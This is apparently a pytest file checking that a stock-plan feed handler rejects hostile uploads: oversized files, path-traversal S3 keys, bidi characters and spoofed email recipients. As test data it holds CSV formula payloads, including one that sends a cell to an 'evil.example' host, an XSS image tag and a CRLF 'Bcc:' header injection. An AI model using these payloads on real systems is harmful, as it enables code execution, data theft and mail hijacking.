"""Hostile and broken input through the FeedFunction (the parser's own fuzzing is in
tests/unit/test_feeds_hostile.py): files too big to read, keys that try to leave
incoming/, cells that would run in a spreadsheet, and feeds that try to choose who
gets an email. Every case ends in a clear rejection, no crash and no partial state."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest
from handlers_support import (
    ADMIN,
    FEED_FUNCTION,
    PEOPLE_CSV,
    assert_pools_match_awards,
    bucket_keys,
    emails,
    errors_csv,
    feed,
    html,
    notice_kind,
    plain,
    put_object,
    run_daily,
    s3_event,
    subject,
    table_items,
    to,
)

MAR15 = date(2002, 3, 15)
OCT2 = date(2002, 10, 2)
GRANTS_HEADER = (
    "award_id,participant_id,plan,award_type,grant_date,shares,exercise_price,"
    "final_exercise_date,vesting\n"
)
TEN_MIB = 10 * 1024 * 1024


class S3Spy:
    """The S3 client, recording GetObject calls and how much of each body was read."""

    def __init__(self, client: Any) -> None:
        self._client = client
        self.gets: list[str] = []
        self.reads: list[int] = []

    def get_object(self, **kwargs: Any) -> Any:
        self.gets.append(kwargs["Key"])
        response = self._client.get_object(**kwargs)
        body = response["Body"]
        spy = self

        class Body:
            def read(self, amount: int | None = None) -> bytes:
                data: bytes = body.read(amount)
                spy.reads.append(len(data))
                return data

            def close(self) -> None:
                body.close()

        response["Body"] = Body()
        return response

    def __getattr__(self, name: str) -> Any:
        return getattr(self._client, name)


@pytest.fixture
def people(local_stack: Any) -> Any:
    feed(local_stack, "participants", PEOPLE_CSV, MAR15)
    feed(local_stack, "prices", "date,last_sale\n2002-03-15,20.00\n", MAR15)
    return local_stack


def spy_s3(stack: Any) -> S3Spy:
    spy = S3Spy(stack.runtime.s3)
    stack.runtime.s3 = spy
    return spy


def deliver(stack: Any, event: dict[str, Any]) -> dict[str, Any]:
    result: dict[str, Any] = stack.invoke(FEED_FUNCTION, event)["files"][0]
    return result


def not_feed_state(stack: Any) -> list[dict[str, Any]]:
    """Everything but the bookkeeping of feed files and the notices about them."""
    return [
        i
        for i in table_items(stack)
        if not i["PK"]["S"].startswith(("FEED#", "OUTBOX#", "AUDIT#", "SCHEDULE"))
    ]


# ------------------------------------------------------------------ file size


def test_a_file_over_10_mib_is_refused_whole_without_being_read(people: Any) -> None:
    stack = people
    key = "incoming/grants/huge.csv"
    header = b"award_id,participant_id,plan,award_type,grant_date,shares\n"
    row = b"G-1,E1,incentive-1998,restricted_stock,2002-03-15,1\n"
    body = header + row * ((TEN_MIB - len(header)) // len(row) + 1)
    assert len(body) > TEN_MIB
    put_object(stack, key, body)
    event = s3_event(stack, "grants", key, MAR15)
    event["Records"][0]["s3"]["object"]["size"] = len(body)  # as S3 sends it
    before = not_feed_state(stack)
    spy = spy_s3(stack)

    result = deliver(stack, event)

    assert result["status"] == "rejected"
    assert result["file_reason"] == (
        f"file too large: {len(body)} bytes, the limit is {TEN_MIB} bytes"
    )
    assert spy.gets == []  # refused on the event's size: not a byte was read
    assert not_feed_state(stack) == before
    assert errors_csv(stack, key) == [{"row": "", "reason": result["file_reason"]}]
    assert [to(m) for m in emails(stack)] == [ADMIN]
    # The same event again: reported once.
    assert deliver(stack, event)["status"] == "duplicate"
    assert len(emails(stack)) == 1


def test_an_event_understating_the_size_is_caught_by_the_stored_length_before_reading(
    people: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The stored object's ContentLength is checked before its body is read, whatever
    the event said (here a limit of 1,000 bytes and an event claiming 10)."""
    from stockplan.feeds import FeedLimits
    from stockplan.service.feeds import FeedDeps

    stack = people
    runtime = stack.runtime
    spy = spy_s3(stack)
    monkeypatch.setattr(
        runtime,
        "feed_deps",
        lambda table: FeedDeps(
            table, runtime.feed_store(), runtime.settings, limits=FeedLimits(max_bytes=1000)
        ),
    )
    key = "incoming/prices/long.csv"
    body = b"date,last_sale\n" + b"2002-03-14,20.00\n" * 100
    put_object(stack, key, body)
    event = s3_event(stack, "prices", key, MAR15)
    event["Records"][0]["s3"]["object"]["size"] = 10
    before = not_feed_state(stack)

    result = deliver(stack, event)

    assert result["file_reason"] == f"file too large: {len(body)} bytes, the limit is 1000 bytes"
    assert spy.gets == [key] and spy.reads == []  # opened, never read
    assert not_feed_state(stack) == before
    assert deliver(stack, event)["status"] == "duplicate"
    assert [to(m) for m in emails(stack)] == [ADMIN]


def test_too_many_rows_and_an_over_long_cell_are_refused_with_their_reasons(
    people: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from stockplan.feeds import FeedLimits
    from stockplan.service.feeds import FeedDeps

    stack = people
    runtime = stack.runtime
    monkeypatch.setattr(
        runtime,
        "feed_deps",
        lambda table: FeedDeps(
            table,
            runtime.feed_store(),
            runtime.settings,
            limits=FeedLimits(max_rows=50, max_cell=100),
        ),
    )
    before = not_feed_state(stack)
    many = "date,last_sale\n" + "".join(f"2001-01-{d:02d},20.00\n" for d in range(1, 29)) * 2
    result = feed(stack, "prices", many, MAR15, name="many")
    assert result["file_reason"] == "too many data rows: more than 50; split the file"
    assert not_feed_state(stack) == before  # not even the first 50 rows

    long_name = "x" * 101
    result = feed(
        stack,
        "participants",
        "participant_id,name,email,role\n"
        f"P-9,{long_name},p9@ctc.example.com,employee\n"
        "P-10,Short Name,p10@ctc.example.com,employee\n",
        MAR15,
        name="long",
    )
    assert (result["accepted"], result["rejected"]) == (1, 1)
    (rejected,) = errors_csv(stack, "incoming/participants/long.csv")
    assert rejected["reason"] == "name: longer than 100 characters"
    assert stack.runtime.table().get("P#P-9", "PROFILE") is None
    assert_pools_match_awards(stack)


def test_a_cell_over_pythons_131072_character_csv_limit_refuses_only_its_row(
    people: Any,
) -> None:
    """Python's csv module refuses a field over 131,072 characters by default, which
    refused the whole file as malformed CSV; the cell's row alone is refused now."""
    stack = people
    huge = "x" * 140_000
    result = feed(
        stack,
        "participants",
        "participant_id,name,email,role,notes\n"
        f"P-9,{huge},p9@ctc.example.com,employee,\n"
        "P-10,Short Name,p10@ctc.example.com,employee,\n"
        f"P-11,Other Name,p11@ctc.example.com,employee,{huge}\n",
        MAR15,
        name="huge-cell",
    )

    assert result["file_reason"] is None
    assert (result["accepted"], result["rejected"]) == (2, 1)
    (rejected,) = errors_csv(stack, "incoming/participants/huge-cell.csv")
    assert (rejected["row"], rejected["reason"]) == ("1", "name: longer than 1000 characters")
    table = stack.runtime.table()
    assert table.get("P#P-9", "PROFILE") is None
    assert table.get("P#P-10", "PROFILE")["name"] == "Short Name"
    # An over-long cell in a column the kind does not read is ignored, as any other.
    assert table.get("P#P-11", "PROFILE")["name"] == "Other Name"


BIDI_AND_CONTROL = [
    ("name", "Ann \u202eeeL", "U+202E (RIGHT-TO-LEFT OVERRIDE)"),
    ("name", "\u2067Ann Lee\u2069", "U+2067 (RIGHT-TO-LEFT ISOLATE)"),
    ("name", "Ann\u200fLee", "U+200F (RIGHT-TO-LEFT MARK)"),
    ("name", "Ann\u200bLee", "U+200B (ZERO WIDTH SPACE)"),
    ("participant_id", "P-\u202d12", "U+202D (LEFT-TO-RIGHT OVERRIDE)"),
    ("role", "employee\u200e", "U+200E (LEFT-TO-RIGHT MARK)"),
    ("name", "Ann\u0085Lee", "must be on one line"),
]


@pytest.mark.parametrize(("column", "cell", "said"), BIDI_AND_CONTROL)
def test_direction_overrides_and_control_characters_refuse_the_row_naming_the_column(
    people: Any, column: str, cell: str, said: str
) -> None:
    stack = people
    row = {"participant_id": "P-12", "name": "Ann Lee", "email": "ann@x.example.com"}
    row |= {"role": "employee", column: cell}
    body = "participant_id,name,email,role\n" + ",".join(row.values()) + "\n"
    body += "P-13,Bob Roe,bob@x.example.com,employee\n"

    result = feed(stack, "participants", body, MAR15, name="bidi")

    assert (result["accepted"], result["rejected"]) == (1, 1)
    (rejected,) = errors_csv(stack, "incoming/participants/bidi.csv")
    assert rejected["reason"].startswith(f"{column}: ")
    assert said in rejected["reason"]
    assert cell not in rejected["reason"]  # the reason never repeats the character
    assert stack.runtime.table().get("P#P-12", "PROFILE") is None
    assert stack.runtime.table().get("P#P-13", "PROFILE") is not None


def test_an_international_domain_is_stored_and_mailed_as_its_idna_address(
    people: Any,
) -> None:
    """SES takes ASCII addresses only: the domain is stored converted with IDNA and the
    notice's To: header and SES destination are that plain address; an address whose
    part before the @ is not ASCII is refused with the reason."""
    stack = people
    result = feed(
        stack,
        "participants",
        "participant_id,name,email,role\n"
        "E9,Jose Ruiz,jose@exämple.com,employee\n"
        "E10,José Ruiz,josé@exämple.com,employee\n",
        MAR15,
        name="idna",
    )
    assert (result["accepted"], result["rejected"]) == (1, 1)
    (rejected,) = errors_csv(stack, "incoming/participants/idna.csv")
    assert rejected["row"] == "2"
    assert rejected["reason"].startswith("email: is not an address SES can send to")
    assert "the part before the @ must be plain ASCII" in rejected["reason"]
    assert stack.runtime.table().get("P#E9", "PROFILE")["email"] == "jose@xn--exmple-cua.com"

    sent_before = len(stack.aws.sent_messages())
    # A grant for Jose: his grant notice goes to the IDNA address.
    feed(
        stack,
        "grants",
        "award_id,participant_id,plan,award_type,grant_date,shares,exercise_price,"
        "final_exercise_date\nG-9,E9,incentive-1998,nso,2002-03-15,100,20.00,2012-03-15\n",
        MAR15,
    )

    (sent,) = stack.aws.sent_messages()[sent_before:]
    assert set(sent.destinations) == {"jose@xn--exmple-cua.com"}
    assert "\r\nTo: jose@xn--exmple-cua.com\r\n" in sent.raw_data
    assert to(emails(stack)[-1]) == "jose@xn--exmple-cua.com"


# ------------------------------------------------------------------ keys

HOSTILE_KEYS = [
    # (the key as S3 sends it in the event: URL-encoded, the reason's start)
    ("errors/incoming/grants/x.csv.errors.csv", "not a feed"),
    ("incoming/../incoming/grants/x.csv", "the key contains a '.' or '..' segment"),
    ("incoming/grants/%2E%2E/%2E%2E/secret.csv", "the key contains a '.' or '..' segment"),
    ("incoming%2Fgrants%2F..%2Fx.csv", "the key contains a '.' or '..' segment"),
    ("incoming/grants/..%2F..%2Fx.csv", "the key contains a '.' or '..' segment"),
    ("incoming/grants/sub/x.csv", "a feed must be uploaded as incoming/<kind>/<name>.csv"),
    ("incoming/grants/x.csv%00.txt", "the key contains control characters"),
    ("incoming/grants/x%0D%0A.csv", "the key contains control characters"),
    ("incoming/grants/%5C..%5Cx.csv", "the key contains a backslash"),
    ("incoming//x.csv", "the key has no feed kind"),
    ("INCOMING/grants/x.csv", "not a feed"),
    ("/incoming/grants/x.csv", "not a feed"),
]


@pytest.mark.parametrize(("raw_key", "reason"), HOSTILE_KEYS, ids=[k for k, _ in HOSTILE_KEYS])
def test_a_key_outside_incoming_kind_name_csv_is_refused_unread(
    people: Any, raw_key: str, reason: str
) -> None:
    stack = people
    put_object(stack, "incoming/grants/x.csv", b"award_id\n")  # a real object to name
    event = s3_event(stack, "grants", "incoming/grants/x.csv", MAR15)
    event["Records"][0]["s3"]["object"]["key"] = raw_key  # as S3 would encode it
    before, sent = table_items(stack), len(emails(stack))
    spy = spy_s3(stack)

    result = deliver(stack, event)

    assert result["status"] == "rejected"
    assert reason in result["file_reason"]
    assert spy.gets == []  # never read
    assert table_items(stack) == before  # nothing recorded
    assert len(emails(stack)) == sent
    assert not any(k.startswith("errors/") for k in bucket_keys(stack))


REPORTED_KEYS = [
    # An upload HR may have meant as a feed: refused unread, the administrator told
    # (docs/interfaces.md §1a).
    ("incoming/%252E%252E/x.csv", "unknown feed kind '%2E%2E'"),
    ("incoming/Grants/x.csv", "unknown feed kind 'Grants'"),
    ("incoming/grants/x.csv.exe", "does not end in .csv"),
]


@pytest.mark.parametrize(("raw_key", "reason"), REPORTED_KEYS, ids=[k for k, _ in REPORTED_KEYS])
def test_an_upload_under_an_unknown_kind_or_not_csv_is_refused_unread_and_reported(
    people: Any, raw_key: str, reason: str
) -> None:
    stack = people
    put_object(stack, "incoming/grants/x.csv", b"award_id\n")
    event = s3_event(stack, "grants", "incoming/grants/x.csv", MAR15)
    event["Records"][0]["s3"]["object"]["key"] = raw_key
    sent = len(emails(stack))
    spy = spy_s3(stack)

    result = deliver(stack, event)

    assert result["status"] == "rejected"
    assert reason in result["file_reason"]
    assert spy.gets == []  # never read
    (summary,) = emails(stack)[sent:]
    assert to(summary) == ADMIN
    assert reason in plain(summary)


# ------------------------------------------------------------------ CSV injection

INJECTIONS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
]


def test_formulas_in_a_feed_never_come_back_executable_in_the_errors_csv(people: Any) -> None:
    stack = people
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([*GRANTS_HEADER.strip().split(","), "=cmd|' /C calc'!A0"])
    for payload in INJECTIONS:
        grant = [payload, "E1", "incentive-1998", "nso", "2002-03-15", payload, "20.00"]
        writer.writerow([*grant, "2012-03-15", payload, "=1+1"])
    csv_text = out.getvalue()
    before = not_feed_state(stack)

    result = feed(stack, "grants", csv_text, MAR15, name="formulas")

    assert (result["accepted"], result["rejected"]) == (0, len(INJECTIONS))
    assert not_feed_state(stack) == before
    body = (
        stack.runtime.s3.get_object(
            Bucket=stack.stack.bucket, Key="errors/incoming/grants/formulas.csv.errors.csv"
        )["Body"]
        .read()
        .decode("utf-8")
    )
    cells = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
    assert len(cells) == (1 + len(INJECTIONS)) * 12
    starts = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
    assert [c for c in cells if c.lstrip(" ").startswith(starts)] == []
    assert "'=cmd|' /C calc'!A0" in cells  # kept, as text, for HR to correct


def test_markup_in_a_name_is_escaped_in_the_html_part_and_stays_one_line(people: Any) -> None:
    stack = people
    feed(
        stack,
        "participants",
        "participant_id,name,email,role\n"
        'E7,<img src=x onerror=alert(1)> "Eve",eve@ctc.example.com,employee\n',
        MAR15,
        name="markup",
    )
    # An award to tell of: a termination of someone holding none sends no notice.
    feed(
        stack,
        "grants",
        GRANTS_HEADER + "G-7,E7,incentive-1998,nso,2002-03-15,100,20.00,2012-03-15,\n",
        MAR15,
        name="eve",
    )
    feed(
        stack,
        "terminations",
        "participant_id,termination_date,reason\nE7,2002-03-15,other\n",
        MAR15,
    )
    notices = [m for m in emails(stack) if to(m) == "eve@ctc.example.com"]
    assert sorted(notice_kind(m) for m in notices) == ["grant", "termination"]
    for notice in notices:
        assert "<img" not in html(notice)
        assert "&lt;img src=x onerror=alert(1)&gt;" in html(notice)
        assert "\n" not in subject(notice)


# ------------------------------------------------------------------ who gets email

EVIL = "evil@attacker.example.com"


def recipients(stack: Any) -> set[str]:
    """Every address SES was asked to deliver to (To, Cc, Bcc and envelope)."""
    found: set[str] = set()
    for message in stack.aws.sent_messages():
        found.update(
            message.destinations.get("ToAddresses", [])
            if isinstance(message.destinations, dict)
            else message.destinations
        )
    for message in emails(stack):
        for header in ("To", "Cc", "Bcc", "Reply-To"):
            if message[header]:
                found.add(str(message[header]))
    return found


def test_no_feed_but_participants_can_choose_who_gets_an_email(people: Any) -> None:
    """Every other feed carries addresses in extra columns and in its own cells: the
    notices go only to the participants feed's addresses and the administrator's."""
    stack = people
    extra = ",email,to,recipient,cc,bcc,personal_email,estate_email\n"
    evil = f",{EVIL},{EVIL},{EVIL},{EVIL},{EVIL},{EVIL},{EVIL}\n"
    feed(
        stack,
        "grants",
        GRANTS_HEADER.rstrip("\n")
        + extra
        + "G-1,E1,incentive-1998,nso,2002-03-15,100,20.00,2012-03-15,"
        + evil
        + f"G-2,{EVIL},incentive-1998,nso,2002-03-15,100,20.00,2012-03-15,"
        + evil,
        MAR15,
    )
    feed(
        stack,
        "elections",
        "participant_id,notice_date,action" + extra + "D1,2001-12-03,elect" + evil,
        MAR15,
    )
    feed(
        stack,
        "fees",
        "participant_id,fee_type,fee_date,amount" + extra + "D1,meeting,2002-05-15,1500" + evil,
        MAR15,
    )
    feed(
        stack,
        "meetings",
        "meeting_date,participant_id,outcome" + extra + "2002-05-15,D1,reelected" + evil,
        MAR15,
    )
    feed(stack, "prices", "date,last_sale" + extra + "2002-05-14,40.00" + evil, MAR15)
    feed(
        stack,
        "terminations",
        "participant_id,termination_date,reason"
        + extra
        + "E1,2002-10-01,voluntary"
        + evil
        + f"{EVIL},2002-10-01,death"
        + evil
        + f"E2,2002-10-01,{EVIL}"
        + evil,
        OCT2,
    )
    # Addresses the participants feed refuses: the person keeps the address they had.
    refused = feed(
        stack,
        "participants",
        "participant_id,name,email,role,personal_email\n"
        f'E1,Ann Lee,ann.lee@ctc.example.com,employee,"ann@home.example.com, {EVIL}"\n'
        f'E2,Bob Roe,"Bob <{EVIL}>",employee,\n'
        f"E3,Cy Doe,cy@ctc.example.com\\r\\nBcc: {EVIL},employee,\n",
        OCT2,
        name="hostile-addresses",
    )
    assert (refused["accepted"], refused["rejected"]) == (0, 3)
    run_daily(stack, date(2002, 5, 15))
    run_daily(stack, date(2003, 1, 2))

    # Ann's grant notice (to her work mailbox, before her termination), her termination,
    # the formula grant, deferred stock, summaries.
    assert len(emails(stack)) >= 6
    assert recipients(stack) <= {
        "ann.lee@ctc.example.com",
        "ann@home.example.com",
        "dana.fox@board.example.com",
        ADMIN,
    }
    profile = stack.runtime.table().get("P#E1", "PROFILE")
    assert profile["personal_email"] == "ann@home.example.com"
    assert stack.runtime.table().get("P#E2", "PROFILE")["email"] == "bob.roe@ctc.example.com"
    assert_pools_match_awards(stack)


# ------------------------------------------------------------------ unknown ids

NOBODY = "unknown participant NOBODY"
UNKNOWN = [
    ("grants", "G-9,NOBODY,incentive-1998,nso,2002-03-15,100,20.00,2012-03-15,", NOBODY),
    ("terminations", "NOBODY,2002-03-15,other", NOBODY),
    ("meetings", "2002-05-15,NOBODY,reelected", NOBODY),
    ("elections", "NOBODY,2001-12-03,elect", NOBODY),
    ("fees", "NOBODY,annual,2002-01-02,100", NOBODY),
    ("exercises", "NO-SUCH-AWARD,2002-03-15,10", "unknown award NO-SUCH-AWARD"),
]
HEADERS = {
    "grants": GRANTS_HEADER.rstrip("\n"),
    "terminations": "participant_id,termination_date,reason",
    "meetings": "meeting_date,participant_id,outcome",
    "elections": "participant_id,notice_date,action",
    "fees": "participant_id,fee_type,fee_date,amount",
    "exercises": "award_id,exercise_date,shares",
}


@pytest.mark.parametrize(("kind", "row", "reason"), UNKNOWN, ids=[k for k, _, _ in UNKNOWN])
def test_unknown_participants_and_awards_are_rejected_and_change_nothing(
    people: Any, kind: str, row: str, reason: str
) -> None:
    stack = people
    before = not_feed_state(stack)

    result = feed(stack, kind, f"{HEADERS[kind]}\n{row}\n", MAR15, name=f"unknown-{kind}")

    assert (result["accepted"], result["rejected"]) == (0, 1)
    (row,) = errors_csv(stack, f"incoming/{kind}/unknown-{kind}.csv")
    # Terminations have a column `reason` of their own: the added one is renamed.
    added = "rejection_reason" if kind == "terminations" else "reason"
    assert row[added].startswith(reason)
    assert not_feed_state(stack) == before
    assert_pools_match_awards(stack)
